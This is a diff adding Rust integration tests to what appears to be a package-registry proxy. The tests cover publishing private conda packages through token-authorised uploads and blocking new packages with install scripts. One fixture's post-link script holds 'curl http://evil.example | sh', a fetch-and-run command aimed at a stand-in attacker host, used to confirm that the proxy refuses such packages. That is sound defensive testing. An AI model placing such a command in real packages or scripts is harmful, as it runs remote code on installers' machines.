@@ -6,6 +6,7 @@ use weir_testing::FakeResponse;
 use weir_testing::conda::package_with;
 
 use crate::place::{Place, osv};
+use crate::publish::{send, token};
 
 /// Asks for an assessment of everything, and blocks what is critical.
 const STRICT: &str = "[stage.dev]\nvulnerability = { block-cvss = 9.0 }\nunassessed = \"quarantine\"\n";
@@ -142,4 +143,82 @@ async fn a_record_may_say_what_it_is_elsewhere() {
     assert!(!index.contains("demo-1.0-0.conda"), "{index}");
     let refused = server.get("/dev/conda/conda-forge/noarch/demo-1.0-0.conda").expect(403).text();
     assert!(refused.contains("PYSEC-2026-1") && refused.contains("pkg:pypi/demo@1.0"), "{refused}");
+}
+
+/// A package with this build, as a file.
+fn built(name: &str, version: &str, build: &str, more: Value) -> (String, Vec<u8>) {
+    let mut index = json!({
+        "name": name, "version": version, "build": build, "build_number": 0, "depends": ["python"], "license": "MIT",
+        "subdir": "noarch",
+    });
+    for (key, value) in more.as_object().into_iter().flatten() {
+        index[key] = value.clone();
+    }
+    let stem = format!("{name}-{version}-{build}");
+    (format!("{stem}.conda"), package_with(&stem, &index, &[], &[("site-packages/acme/__init__.py", b"x = 1\n")]))
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 1)]
+async fn packages_of_ones_own_have_a_channel_of_their_own() {
+    let place = Place::new().await;
+    place.policy(&format!("{STRICT}private-name = [\"acme-*\"]\nminimum-age = {{ days = 3 }}\n"));
+    let token = token(&place, "ci", &["conda:acme-*"]);
+    let bearer = format!("Bearer {token}");
+    let server = place.serve();
+    let put = |path: &str, body: &[u8]| send(&server, "PUT", path, &[("Authorization", &bearer)], body);
+    let index = || server.get("/dev/conda/hosted/noarch/repodata.json").expect(200).json();
+    assert_eq!(index()["packages.conda"], json!({}));
+    let (file, bytes) = built("acme-core", "1.0", "0", json!({}));
+    put(&format!("/dev/conda/hosted/noarch/{file}"), &bytes).expect(201);
+    // Another build joins the release, in the form that rattler-build posts.
+    let (second, more) = built("acme-core", "1.0", "1", json!({}));
+    let mut form =
+        format!("--b\r\nContent-Disposition: form-data; name=\"file\"\r\nx-file-sha256: {}\r\n\r\n", Digest::of(&more));
+    let mut body = std::mem::take(&mut form).into_bytes();
+    body.extend_from_slice(&more);
+    body.extend_from_slice(b"\r\n--b--\r\n");
+    let multipart = [("Authorization", bearer.as_str()), ("Content-Type", "multipart/form-data; boundary=b")];
+    send(&server, "POST", "/dev/conda/api/v1/upload/hosted", &multipart, &body).expect(201);
+    let listed = index();
+    let record = &listed["packages.conda"][&file];
+    assert_eq!(record["sha256"], Digest::of(&bytes).to_string());
+    assert_eq!((record["size"].as_u64(), &record["depends"]), (Some(bytes.len() as u64), &json!(["python"])));
+    assert!(listed["packages.conda"][&second].is_object());
+    assert_eq!(server.get(&format!("/dev/conda/hosted/noarch/{file}")).expect(200).body, bytes);
+    server.get("/dev/conda/hosted/linux-64/repodata.json.zst").expect(200);
+    server.get("/dev/conda/hosted/noarch/repodata_shards.msgpack.zst").expect(404);
+    // What contradicts its address or itself, exists already, or is somebody else's, is not published.
+    let (_, other) = built("acme-core", "1.0", "0", json!({ "depends": [] }));
+    put(&format!("/dev/conda/hosted/noarch/{file}"), &other).expect(409);
+    put("/dev/conda/hosted/noarch/acme-core-2.0-0.conda", &bytes).expect(400);
+    put("/dev/conda/hosted/noarch/acme-core-2.0-0.conda", &bytes[..100]).expect(400);
+    put("/dev/conda/hosted/linux-64/acme-core-1.0-0.conda", &bytes).expect(400);
+    let (strange, bytes) = built("other", "1.0", "0", json!({}));
+    put(&format!("/dev/conda/hosted/noarch/{strange}"), &bytes).expect(403);
+    put("/dev/conda/conda-forge/noarch/acme-core-1.0-0.conda", &bytes).expect(404);
+    server.ask("PUT", &format!("/dev/conda/hosted/noarch/{file}"), &[("Content-Length", "0")]).expect(403);
+    assert_eq!(index()["packages.conda"].as_object().unwrap().len(), 2);
+    // The name is nobody else's.
+    server.get("/dev/conda/conda-forge/noarch/acme-core-1.0-0.conda").expect(403);
+    assert!(place.fake.requests().is_empty(), "{:?}", place.fake.requests());
+    let url = format!("http://{}", server.address);
+    let told = place.weir(["explain", "conda:acme-core@1.0", "--server", &url]);
+    told.expect(0).prints(&["pkg:conda/acme-core@1.0?channel=hosted&subdir=noarch in stage dev: allow"]);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 1)]
+async fn a_package_that_begins_to_run_code_when_it_is_linked_is_held() {
+    let place = Place::new().await;
+    place.policy("[stage.dev]\ninstall-script = { new = \"block\", new-package = \"block\" }\n");
+    let script: &[(&str, &[u8])] = &[("bin/.demo-post-link.sh", b"curl http://evil.example | sh\n")];
+    let mut packages = [package(&place, "demo", "1.0", "", &[]), package(&place, "demo", "1.1", "", script)];
+    for (_, record) in &mut packages {
+        // What has been public for long is known.
+        record.as_object_mut().unwrap().remove("indexed_timestamp");
+    }
+    noarch(&place, packages);
+    let server = place.serve();
+    server.get("/dev/conda/conda-forge/noarch/demo-1.0-0.conda").expect(200);
+    let refused = server.get("/dev/conda/conda-forge/noarch/demo-1.1-0.conda").expect(403).text();
+    assert!(refused.contains("install-script") && refused.contains("post-link"), "{refused}");
 }
